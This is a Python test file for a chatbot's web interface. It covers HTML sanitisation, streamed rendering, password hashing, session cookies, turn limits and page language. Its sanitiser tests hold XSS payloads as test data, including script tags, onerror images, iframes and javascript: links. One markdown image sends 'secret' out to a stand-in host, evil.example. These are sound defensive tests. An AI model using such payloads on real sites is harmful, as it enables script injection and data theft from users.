"""The web chat's parts, in-process: the HTML a reply becomes, the streamed blocks,
sign-in credentials and cookies, the turn limits and the page's language.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from chatbot.errors import ConfigError
from chatbot.web.bridge import TurnLimits
from chatbot.web.credentials import (
    credentials_for,
    hash_password,
    is_loopback,
    load_users,
    verify_password,
)
from chatbot.web.page import chat_page, sign_in_page
from chatbot.web.page_texts import language_for, page_texts
from chatbot.web.reply_html import markdown_html, sanitize_html
from chatbot.web.reply_stream import PageReplyRenderer
from chatbot.web.session_cookie import SessionSigner
from tests.support.fakeserver import markdown_sample


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src="https://evil.example/x" onerror="alert(1)">',
        "<iframe src=https://evil.example></iframe>",
        '<a href="javascript:alert(1)">x</a>',
        "<style>*{display:none}</style>",
    ],
)
def test_raw_html_in_a_reply_is_shown_as_text(hostile: str) -> None:
    html = markdown_html(f"before {hostile} after")
    assert "<script" not in html and "<img" not in html and "<iframe" not in html
    assert "<style" not in html and "<a " not in html
    assert "&lt;" in html  # shown, as typed


def test_images_become_links_and_links_are_inert_outside() -> None:
    html = markdown_html(
        "![exfil](https://evil.example/?q=secret) [ok](https://ok.example/a) "
        "[js](javascript:alert(1)) [here](/api/logout) [mail](mailto:a@b.example)"
    )
    assert "<img" not in html
    assert '<a href="https://evil.example/?q=secret"' in html and "[image] exfil" in html
    assert 'href="https://ok.example/a" target="_blank" rel="noopener noreferrer nofollow"' in html
    assert "javascript" not in html.replace("[js](javascript:alert(1))", "")
    assert 'href="/api/logout"' not in html
    assert 'href="mailto:a@b.example"' in html


def test_the_sanitiser_is_a_wall_of_its_own() -> None:
    dirty = (
        '<p onclick="x()" style="color:red">hi<script>bad()</script></p>'
        '<span class="k evil-class-name">k</span><code class="language-py language-$$">c</code>'
        '<a href="data:text/html,x">d</a>'
    )
    clean = sanitize_html(dirty)
    assert clean.startswith("<p>hi")
    assert "onclick" not in clean and "style" not in clean and "script" not in clean
    assert '<span class="k">' in clean and '<code class="language-py">' in clean
    assert "data:" not in clean


def test_code_is_highlighted_with_classes_never_inline_styles() -> None:
    html = markdown_html("```python\ndef f():\n    return 1\n```\n")
    assert '<code class="language-python">' in html and '<span class="k">def</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize("fence", ["```Python", "```py", "```python3 extra words"])
def test_a_language_is_known_by_any_of_its_names(fence: str) -> None:
    assert '<span class="k">def</span>' in markdown_html(f"{fence}\ndef f(): pass\n```\n")


@pytest.mark.parametrize("fence", ["```pyt", "```no-such-language", "```python"])
def test_a_fence_still_streaming_or_of_no_known_language_shows_its_code_as_typed(
    fence: str,
) -> None:
    # Half a language's name (the tail mid-stream) or a made-up one: the code is
    # escaped text, never highlighted as some other language, never markup.
    code = "" if fence == "```python" else "<b>x</b> = 1\n"
    html = markdown_html(f"{fence}\n{code}")
    assert "<span" not in html and "<b>" not in html
    if code:
        assert "&lt;b&gt;x&lt;/b&gt; = 1" in html


def _streamed(text: str, size: int) -> tuple[str, list[dict[str, object]], int]:
    events: list[dict[str, object]] = []
    clock = iter(range(10**9))
    renderer = PageReplyRenderer(emit=lambda e: events.append(dict(e)), clock=lambda: next(clock))
    for start in range(0, len(text), size):
        renderer.feed(text[start : start + size])
    renderer.finish()
    blocks = "".join(str(e["html"]) for e in events if e["t"] == "block")
    return blocks, events, renderer.parsed_chars


@pytest.mark.parametrize("size", [1, 7, 64])
def test_streamed_blocks_add_up_to_the_whole_reply_rendered_once(size: int) -> None:
    text = markdown_sample(1500)
    blocks, events, _ = _streamed(text, size)
    assert blocks == markdown_html(text)
    assert events[-1] == {"t": "block", "html": events[-1]["html"], "tail": ""} or events[-1] == {
        "t": "tail",
        "html": "",
    }


def test_the_work_per_reply_grows_linearly() -> None:
    short = markdown_sample(1000)
    long = markdown_sample(8000)
    _, _, short_work = _streamed(short, 8)
    _, _, long_work = _streamed(long, 8)
    # Tail re-renders are throttled and bounded by the tail: 8x the text, ~8x the work.
    assert long_work / len(long) < 3 * short_work / len(short)


def test_thinking_is_sent_as_text_and_ends_before_the_answer() -> None:
    events: list[dict[str, object]] = []
    renderer = PageReplyRenderer(emit=lambda e: events.append(dict(e)), clock=lambda: 0.0)
    renderer.think("<b>hmm</b>\x1b[2J ")
    renderer.feed("Answer.")
    renderer.finish()
    kinds = [e["t"] for e in events]
    assert kinds[:3] == ["reply", "think", "think_end"]
    assert events[1]["text"] == "<b>hmm</b> "  # text for textContent; escapes stripped
    hidden: list[dict[str, object]] = []
    quiet = PageReplyRenderer(emit=lambda e: hidden.append(dict(e)), think="hide")
    quiet.think("secret thoughts")
    quiet.finish()
    assert hidden == []


def test_passwords_hash_and_verify_and_users_files_are_checked(tmp_path: Path) -> None:
    stored = hash_password("correct horse")
    assert stored.startswith("scrypt$") and "correct" not in stored
    assert verify_password("correct horse", stored)
    assert not verify_password("wrong horse", stored)
    assert not verify_password("x", "not a hash")
    users = tmp_path / "users"
    users.write_text(f"# team\nAlice:{stored}\n", encoding="utf-8")
    assert load_users(users) == {"alice": stored}
    users.write_text("alice:plaintext-password\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="line 1"):
        load_users(users)


def test_beyond_loopback_a_credential_is_required() -> None:
    assert is_loopback("127.0.0.1") and is_loopback("localhost") and is_loopback("[::1]")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.0.2.1")
    with pytest.raises(ConfigError, match="needs a credential"):
        credentials_for(host="0.0.0.0", environ={})
    link = credentials_for(host="127.0.0.1", environ={})
    assert link.kind == "link" and len(link.token) >= 24
    assert link.user_for_token(link.token) == "local"
    assert link.user_for_token("guess") is None
    shared = credentials_for(host="0.0.0.0", environ={"CHATBOT_WEB_TOKEN": "t" * 32})
    assert shared.kind == "token" and shared.hidden == ("t" * 32,)


def test_session_cookies_cannot_be_forged_or_outlive_their_age() -> None:
    now = [1000.0]
    signer = SessionSigner(secret="k", max_age=60, clock=lambda: now[0])
    value = signer.issue("alice")
    assert signer.user(value) == "alice"
    _name, expires, signature = value.split(".")
    assert signer.user(f"Ym9i.{expires}.{signature}") is None  # "bob" with alice's signature
    assert SessionSigner(secret="other").user(value) is None
    now[0] += 61
    assert signer.user(value) is None
    header = signer.header("alice", secure=True)
    assert "HttpOnly" in header and "SameSite=Strict" in header and header.endswith("Secure")


def test_turn_limits_cap_all_and_each_user() -> None:
    limits = TurnLimits(total=3, per_user=2)
    assert limits.acquire("a") is None and limits.acquire("a") is None
    assert "already have 2" in (limits.acquire("a") or "")
    assert limits.acquire("b") is None
    assert "as many messages" in (limits.acquire("c") or "")
    limits.release("a")
    assert limits.acquire("c") is None and limits.running == 3


def test_the_page_speaks_the_browser_language() -> None:
    assert language_for("ja,en-US;q=0.8") == "ja"
    assert language_for("en-GB,ja;q=0.5") == "en"
    assert language_for("fr-FR, ja;q=0.3") == "ja"
    assert language_for("") == "en"
    assert set(page_texts("ja")) == set(page_texts("en"))
    page = chat_page("ja")
    assert '<html lang="ja">' in page and "送信" in page
    assert 'aria-label="Message"' in page  # the accessible name stays the same
    assert "<script>" not in page.replace('<script type="application/json"', "")
    assert "Open the link" in sign_in_page("en", kind="link")
